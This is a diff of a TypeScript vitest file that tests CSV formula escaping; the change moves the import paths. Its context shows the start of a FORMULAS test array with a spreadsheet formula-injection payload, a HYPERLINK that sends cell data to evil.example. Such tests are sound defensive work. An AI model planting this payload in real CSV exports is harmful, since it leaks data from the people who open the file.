@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
-import { csvField, looksLikeFormula } from "@/lib/core/csv";
-import { csvStream } from "@/lib/schema-pages/query";
-import type { PageSchema } from "@/lib/schema-pages/types";
+import type { PageSchema } from "@/features/admin-tables/contracts";
+import { csvStream } from "@/features/admin-tables/server/query";
+import { csvField, looksLikeFormula } from "@/lib/core/text/csv";
 
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"click")',
